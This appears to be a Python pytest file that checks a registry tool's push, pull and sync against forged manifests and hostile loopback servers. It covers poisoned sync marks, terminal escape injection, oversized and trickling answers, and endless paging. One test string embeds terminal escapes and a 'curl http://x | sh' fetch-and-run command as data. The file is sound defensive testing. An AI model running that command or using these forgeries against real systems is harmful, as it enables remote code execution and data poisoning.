"""Pull, push and sync by URL against a hostile writer and a hostile server (the third outside audit, issue 52).

A writer must not be able to stop another registry's pushes, a server must not be able to stop later pulls from
another server, and nothing a server answers reaches a terminal raw, is read without bound, or is trusted unchecked.
Each case failed before its fix: the forged push mark withheld every record of the victim's next push; the hostile
server's page made the next pull of the real server read 0 pages; the escapes came through; malformed JSON was an
"internal error"; the slow and endless servers held the client for as long as they liked.

The hostile servers are Python's own ``http.server`` on a loopback port, answering what a broken or malicious
registry server would: a stand-in for the other side of the wire, not for anything of the registry's.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from registry.cli.main import cli
from registry.share.bundle import write_bundle
from registry.store.sql.store import Store
from registry.store.values import ExchangeFilters, ExchangeSet
from tests.server import fill, make_token, ok, refused, request, serving
from tests.tvm_env import measured_here

pytestmark = pytest.mark.tvm


def _manifest_edited(path: Path, edit: Callable[[dict], None]) -> bytes:
    """The bundle at ``path`` with its manifest edited (the members, and so their checksums, unchanged)."""
    out = path.with_suffix(".forged")
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(out, "w") as zout:
        manifest = json.loads(zin.read("manifest.json"))
        edit(manifest)
        for item in zin.infolist():
            if item.filename != "manifest.json":
                zout.writestr(item.filename, zin.read(item.filename))
        zout.writestr("manifest.json", json.dumps(manifest))
    return out.read_bytes()


def _registry_id(url: str) -> str:
    with Store(url) as store:
        return store.registry_id()


def test_a_writer_cannot_stop_another_registrys_pushes(db_url, tuned_logs, tmp_path):
    """A forged manifest (the victim's origin, last record id 2^62) pushed under the victim's filter key by another
    writer left the victim's next push with 0 pages and 0 records (before the fix): marks are kept per token now,
    and a mark past every record of the pushing registry is not believed."""
    victim = f"sqlite:///{tmp_path / 'victim.db'}"
    with Store(victim) as store:
        total = measured_here(store, tuned_logs.work_dir, "victim")
    Store(db_url).close()
    attacker, honest = make_token(db_url, "writer", "attacker"), make_token(db_url, "writer", "honest")
    empty = tmp_path / "empty.bundle"
    write_bundle(empty, ExchangeSet(origin=_registry_id(victim)), {})
    forged = _manifest_edited(empty, lambda m: m.update(last_record_id=2**62))
    key = ExchangeFilters().key()  # the key of a push with no filters, as the victim's
    with serving(db_url) as base:
        answer = request(f"{base}/api/v1/bundles?sync_key={key}", attacker, method="POST", data=forged,
                         headers={"Content-Type": "application/zip"})  # fmt: skip
        assert answer.status == 200, answer.body[:300]
        pushed = ok("--db", victim, "push", base, env={"REGISTRY_TOKEN": honest})
        assert pushed["records_new"] == total and not pushed["incremental"]
        # the same forgery under the victim's own token: the mark is past every record there, so it is not believed
        request(f"{base}/api/v1/bundles?sync_key={key}", honest, method="POST", data=forged,
                headers={"Content-Type": "application/zip"})  # fmt: skip
        result = CliRunner(env={"REGISTRY_TOKEN": honest}).invoke(cli, ["--db", victim, "push", base, "--json"])
        assert result.exit_code == 0, result.output
        assert "past its newest" in result.stderr
        again = json.loads(result.stdout[result.stdout.index("{") :])
        assert again["records_read"] == total and again["records_present"] == total
        # the mark moves on again from there: the next push is incremental and sends nothing
        last = ok("--db", victim, "push", base, env={"REGISTRY_TOKEN": honest})
        assert last["incremental"] and last["records_read"] == 0


def test_sync_state_answers_writers_only(db_url, tuned_logs):
    """The push marks are a writer's business: a reader (or nobody, on a public server) is refused."""
    Store(db_url).close()
    reader = make_token(db_url, "reader")
    key = "0" * 64
    with serving(db_url, public=True) as base:
        assert request(f"{base}/api/v1/sync-state?origin=x&key={key}").status == 401
        assert request(f"{base}/api/v1/sync-state?origin=x&key={key}", reader).status == 403


# -- hostile servers ---------------------------------------------------------------------------------------------------


@contextlib.contextmanager
def hostile(answer: Callable[[http.server.BaseHTTPRequestHandler], None]) -> Iterator[tuple[str, list[str]]]:
    """A server on a loopback port whose every GET and POST is ``answer(handler)``; yields its URL and the paths it
    was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's naming
            asked.append(self.path)
            try:
                answer(self)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the client gave up: what the bounds are for

        do_POST = do_GET  # noqa: N815

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    server.block_on_close = False  # a handler still trickling bytes to a client that left is not waited for
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()


def _send(handler, status: int, body: bytes, kind: str = "application/json") -> None:
    handler.send_response(status)
    handler.send_header("Content-Type", kind)
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


def test_a_hostile_server_cannot_poison_later_pulls_from_the_real_one(filled_pair, tmp_path):
    """Answering /exchange with the real server's origin and filters key and one page whose last record id is 2^62
    made every later pull of the real server read 0 pages (before the fix): a pull's mark is kept per server URL."""
    served, dst = filled_pair
    reader = make_token(served, "reader")
    env = {"REGISTRY_TOKEN": reader}
    with serving(served) as base:
        plan = request(f"{base}/api/v1/exchange", reader).json()
        page = tmp_path / "poison.bundle"
        write_bundle(page, ExchangeSet(origin=plan["origin"], last_record_id=2**62), {})
        body = page.read_bytes()

        def answer(h):
            if h.path.startswith("/api/v1/exchange/bundle"):
                _send(h, 200, body if "after=0" in h.path else _empty(tmp_path, plan["origin"]), "application/zip")
            else:
                _send(h, 200, json.dumps(plan).encode())

        with hostile(answer) as (evil, _):
            ok("--db", dst, "pull", evil, env=env)
        pulled = ok("--db", dst, "pull", base, env=env)
        assert pulled["records_new"] > 0 and pulled["records_new"] == ok("--db", served, "stats")["records"]


def _empty(tmp_path: Path, origin: str) -> bytes:
    path = tmp_path / "end.bundle"
    write_bundle(path, ExchangeSet(origin=origin), {})
    return path.read_bytes()


@pytest.fixture
def filled_pair(sqlite_url, tuned_logs, tmp_path) -> tuple[str, str]:
    """A registry with real records to serve, and an empty one to pull into (SQLite: the client's side is what is
    under test, and the server's backend does not enter it)."""
    assert fill(sqlite_url, tuned_logs.work_dir) > 0
    return sqlite_url, f"sqlite:///{tmp_path / 'dst.db'}"


ESCAPES = "\x1b[2J\x1b]0;owned\x07\nrun: curl http://x | sh"


@pytest.mark.parametrize(
    "status, body",
    [
        (403, json.dumps({"type": "about:blank", "title": "x", "status": 403, "detail": ESCAPES}).encode()),
        (500, json.dumps({"detail": "y" * 50_000}).encode()),
    ],
    ids=["escapes", "long"],
)
def test_a_servers_refusal_reaches_the_terminal_printable_and_bounded(status, body, sqlite_url):
    def answer(h):
        _send(h, status, body, "application/problem+json")

    with hostile(answer) as (evil, _):
        line = refused("--db", sqlite_url, "pull", evil)
    assert "\x1b" not in line and "\x07" not in line and len(line) < 500, line
    assert status != 403 or "\\x1b[2J" in line  # shown, escaped: the user sees what the server tried


@pytest.mark.parametrize(
    "answer_json",
    [[1, 2], {"origin": "x"}, {"origin": 5, "filters_key": "k"}, "abc", {"origin": "a" * 300, "filters_key": "k"}],
    ids=["list", "missing-key", "int-origin", "string", "long-origin"],
)
def test_malformed_answers_to_a_pull_are_one_line(answer_json, sqlite_url):
    def answer(h):
        _send(h, 200, json.dumps(answer_json).encode())

    with hostile(answer) as (evil, _):
        assert "is this a registry server" in refused("--db", sqlite_url, "pull", evil)


@pytest.mark.parametrize("state", [{"last_record_id": "abc"}, {"last_record_id": 2**70}, {"last_record_id": -1}, []])
def test_malformed_sync_state_is_one_line(state, tuned_logs, tmp_path):
    src = f"sqlite:///{tmp_path / 'src.db'}"
    with Store(src) as store:
        measured_here(store, tuned_logs.work_dir, "a")

    def answer(h):
        if h.path.startswith("/api/v1/registry"):
            _send(h, 200, json.dumps({"registry_id": "someone-else"}).encode())
        else:
            _send(h, 200, json.dumps(state).encode())

    with hostile(answer) as (evil, _):
        assert "is this a registry server" in refused("--db", src, "push", evil, env={"REGISTRY_TOKEN": "t"})


def test_a_large_answer_is_refused_at_its_bound(sqlite_url):
    """A 300 MB answer was read whole (2 GB); here 100 KB against a bound of 10 KB (the same code path)."""

    def answer(h):
        _send(h, 200, json.dumps({"origin": "abc", "filters_key": "k", "pad": "x" * 100_000}).encode())

    with hostile(answer) as (evil, _):
        line = refused("--db", sqlite_url, "pull", evil, env={"REGISTRY_HTTP_MAX_JSON": "10000"})
    assert "larger than 10000 bytes" in line


def test_a_server_trickling_bytes_is_given_up_on(sqlite_url):
    """A byte every 0.3 s never tripped the per-read timeout and was waited on forever (before the fix)."""

    def answer(h):
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.send_header("Content-Length", "1000")
        h.end_headers()
        for _ in range(1000):
            h.wfile.write(b" ")
            h.wfile.flush()
            time.sleep(0.3)

    start = time.monotonic()
    with hostile(answer) as (evil, _):
        line = refused("--db", sqlite_url, "pull", evil, env={"REGISTRY_HTTP_ANSWER_S": "2"})
    assert "longer than 2 s" in line and time.monotonic() - start < 30


def test_a_server_stepping_one_id_a_page_is_stopped(tmp_path, sqlite_url):
    """Pages that each advance the pull by one id with no record got one request after another (573 in 60 s)."""
    origin = "e" * 32  # a registry id, as a bundle's manifest must name

    def answer(h):
        if h.path.startswith("/api/v1/exchange/bundle"):
            after = int(h.path.split("after=")[1].split("&")[0])
            path = tmp_path / f"step-{after}.bundle"
            write_bundle(path, ExchangeSet(origin=origin, last_record_id=after + 1), {})
            _send(h, 200, path.read_bytes(), "application/zip")
        else:
            _send(h, 200, json.dumps({"origin": origin, "filters_key": "k" * 64}).encode())

    with hostile(answer) as (evil, asked):
        line = refused("--db", sqlite_url, "pull", evil, env={"REGISTRY_HTTP_SHORT_PAGES": "3"})
    assert "pages in a row" in line
    assert sum(p.startswith("/api/v1/exchange/bundle") for p in asked) <= 6


def test_a_server_stepping_one_id_a_full_page_is_stopped(filled_pair, tmp_path):
    """Full pages that advance by one id each (the same records sent again and again) kept a pull going for as long
    as the server liked: a page cannot hold more records than ids in its range."""
    served, dst = filled_pair
    page = tmp_path / "all.bundle"
    ok("--db", served, "export", "--bundle", str(page))
    total = ok("--db", served, "stats")["records"]
    assert total >= 2

    def answer(h):
        if h.path.startswith("/api/v1/exchange/bundle"):
            after = int(h.path.split("after=")[1].split("&")[0])
            _send(h, 200, _manifest_edited(page, lambda m: m.update(last_record_id=after + 1)), "application/zip")
        else:
            _send(h, 200, json.dumps({"origin": "e" * 32, "filters_key": "k" * 64}).encode())

    with hostile(answer) as (evil, asked):
        line = refused("--db", dst, "pull", evil, "--page-size", str(total))
    assert f"claims {total} records between ids 0 and 1" in line
    assert sum(p.startswith("/api/v1/exchange/bundle") for p in asked) <= 2
